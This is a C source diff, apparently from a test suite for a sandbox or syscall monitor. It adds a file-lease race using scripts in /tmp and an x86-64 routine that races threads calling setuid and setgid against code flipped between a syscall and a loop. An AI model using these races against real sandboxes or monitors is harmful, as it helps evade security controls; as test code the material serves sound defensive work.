@@ -70,7 +70,7 @@ static void *execute_leased(void *unused) {
   return unused;
 }
 
-static void leased(void) {
+static void leased(int is_kept) {
   const int interpreter = open("/tmp/interpreter", O_WRONLY | O_CREAT | O_CLOEXEC, 0755),
             script = open("/tmp/leased", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
   if (dprintf(interpreter, "#!/bin/sh\n") < 0 || dprintf(script, "#!/tmp/interpreter\n") < 0) {
@@ -94,6 +94,10 @@ static void leased(void) {
     stage = 3;
     wait_for_ever(0);
   }
+  while (is_kept) {
+    dprintf(1, "held\n");
+    sleep(1);
+  }
   sleep(2);
   close(lease);
   if (fork() == 0) {
@@ -105,6 +109,50 @@ static void leased(void) {
   wait(0);
   wait(0);
 }
+
+#if defined(__x86_64__)
+/* An instruction that makes a call, and behind it what that returns to. */
+static unsigned char *text;
+
+static int ask_by_text(void *unused) {
+  long result = SYS_setgid;
+  __asm__ volatile("call *%2" : "+a"(result) : "D"((long)gid), "r"(text) : "rcx", "r11", "memory");
+  result = SYS_setuid;
+  __asm__ volatile("call *%2" : "+a"(result) : "D"((long)uid), "r"(text) : "rcx", "r11", "memory");
+  _exit(unused != 0);
+}
+
+static void swapped(void) {
+  enum { ASKERS = 40 };
+  const unsigned short call = 0x050f, loop = 0xfeeb;
+  text = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+  memcpy(text, "\x0f\x05\xc3", 3);
+  for (int i = 0; i < ASKERS; i++) {
+    char *stack = mmap(0, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    clone(ask_by_text, stack + 65536, CLONE_VM | SIGCHLD, 0);
+  }
+  if (fork() == 0) {
+    alarm(20);
+    change();
+    say();
+    go();
+  }
+  for (volatile unsigned short *place = (unsigned short *)text;;) {
+    *place = loop;
+    for (volatile int i = 0; i < 2000; i++) {
+    }
+    *place = call;
+    for (volatile int i = 0; i < 2000; i++) {
+    }
+    if (waitpid(-1, 0, WNOHANG) < 0) {
+      return;
+    }
+  }
+}
+
+#else
+static void swapped(void) {} /* the race needs instructions of one size */
+#endif
 
 static void *change_some_time(void *unused) {
   usleep((useconds_t)random() % 3000);
